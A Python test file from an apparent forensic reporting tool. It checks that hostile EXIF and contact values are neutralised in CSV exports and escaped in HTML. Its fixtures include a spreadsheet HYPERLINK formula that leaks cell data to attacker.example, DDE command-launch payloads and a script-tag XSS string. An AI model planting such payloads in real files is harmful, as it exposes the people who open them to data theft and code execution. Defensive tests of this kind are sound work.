"""Hostile evidence (EXIF, names, message text) stays inert in every export: CSV cells that a
spreadsheet would run as a formula are neutralised (OWASP), HTML is escaped."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from tantalio.report.build import write_reports
from tantalio.report.safe_csv import csv_text, neutralise
from tantalio.store import CaseStore

from .casefixture import build_case
from .conftest import GENERATED
from .safety import Page

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE = {
    "exif_make": FORMULA,
    "exif_model": "+cmd|' /C calc'!A0",
    "exif_serial": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _number(cell: str) -> bool:
    """Numbers Tantalio writes itself (a negative longitude) stay numbers."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_neutralise_follows_the_owasp_rule() -> None:
    for bad in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"):
        assert neutralise(bad) == "'" + bad
    assert neutralise("plain") == "plain" and neutralise(-3.7038) == -3.7038 and neutralise(None) == ""
    assert csv_text([["=x", 'a "quote"']]) == '"\'=x","a ""quote"""\n'


def test_hostile_exif_names_and_text_are_inert(tmp_path: Path) -> None:
    fx = build_case(tmp_path)
    with CaseStore.open(fx.folder) as store:
        c = store.conn
        c.execute("UPDATE media_item SET exif_make=?, exif_model=?, exif_serial=? WHERE sha256=?",
                  (HOSTILE["exif_make"], HOSTILE["exif_model"], HOSTILE["exif_serial"], fx.camera_sha256))
        c.execute("UPDATE identifier SET value='-2+3+cmd|'' /C calc''!A0' WHERE id=101")   # Ana's address-book name
        c.execute("UPDATE identifier SET value='=1+1<script>alert(1)</script>' WHERE id=102")
        write_reports(store, tmp_path / "out", pdf=False, generated=GENERATED)
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "vid-queue.csv").read_text(encoding="utf-8"))))
    with zipfile.ZipFile(tmp_path / "out" / "packages" / "ES.zip") as zf:
        rows += list(csv.reader(io.StringIO(zf.read("summary.csv").decode("utf-8"))))
    with zipfile.ZipFile(tmp_path / "out" / "packages" / "GB.zip") as zf:
        rows += list(csv.reader(io.StringIO(zf.read("summary.csv").decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)          # camera: "make model"
    assert "'" + HOSTILE["exif_serial"] in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
    raw = (tmp_path / "out" / "vid-queue.csv").read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in raw.splitlines())          # every cell quoted
    queue = Page((tmp_path / "out" / "vid-queue.html").read_text(encoding="utf-8"))
    assert FORMULA in queue.all_text and queue.tags("script") == []
    ben = Page((tmp_path / "out" / "dossiers" / "P-002.html").read_text(encoding="utf-8"))
    assert "=1+1<script>alert(1)</script>" in ben.all_text and ben.tags("script") == []
